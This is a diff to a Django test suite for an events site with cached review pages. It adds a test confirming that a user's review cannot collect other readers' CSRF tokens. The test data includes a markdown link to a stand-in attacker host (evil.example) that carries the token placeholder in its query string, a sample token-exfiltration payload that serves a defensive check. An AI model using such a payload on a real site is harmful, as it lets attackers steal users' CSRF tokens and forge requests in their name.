@@ -461,19 +461,19 @@ def test_members_with_nothing_of_their_own_share_one_stored_block(client, event)
     from django.db import connection
     from django.test.utils import CaptureQueriesContext
 
-    from events.views import CSRF_PLACEHOLDER
+    from events.views import csrf_placeholder
 
     reviews_of(event, 3)
     first, second = UserFactory(), UserFactory()
     client.force_login(first)
     page = client.get(event.get_absolute_url()).content.decode()
-    assert "Utile (0)" in page and CSRF_PLACEHOLDER not in page
+    assert "Utile (0)" in page and csrf_placeholder() not in page
     client.force_login(second)
     client.get(event.get_absolute_url())
     with CaptureQueriesContext(connection) as stored:
         page = client.get(event.get_absolute_url()).content.decode()
     assert len(stored) <= 3  # session, the member view, CSRF-free: no review query
-    assert CSRF_PLACEHOLDER not in page
+    assert csrf_placeholder() not in page
     token = client.cookies["csrftoken"].value
     assert 'name="csrfmiddlewaretoken"' in page and token
     # A vote moves the version: the others see the new count, the voter their own block.
@@ -482,3 +482,25 @@ def test_members_with_nothing_of_their_own_share_one_stored_block(client, event)
     assert 'aria-pressed="true"' in client.get(event.get_absolute_url()).content.decode()
     client.force_login(first)
     assert "Utile (1)" in client.get(event.get_absolute_url()).content.decode()
+
+
+def test_a_review_cannot_collect_its_readers_csrf_tokens(client, event):
+    """The block stored for every member holds a placeholder where each reader's CSRF
+    token goes. It is derived from the secret key and replaced only in the hidden CSRF
+    fields: a review that writes it down (were it known) shows it as written."""
+    from events.views import csrf_placeholder
+
+    placeholder = csrf_placeholder()
+    review_submit(
+        author=UserFactory(),
+        event=event,
+        rating=4,
+        body=f"[billets](https://evil.example/?t={placeholder})",
+    )
+    client.force_login(UserFactory())
+    client.get(event.get_absolute_url())  # stores the block
+    page = client.get(event.get_absolute_url()).content.decode()
+    tokens = re.findall(r'name="csrfmiddlewaretoken" value="([^"]+)"', page)
+    assert tokens and placeholder not in tokens
+    assert f"https://evil.example/?t={placeholder}" in page
+    assert not any(f"?t={token}" in page for token in tokens)
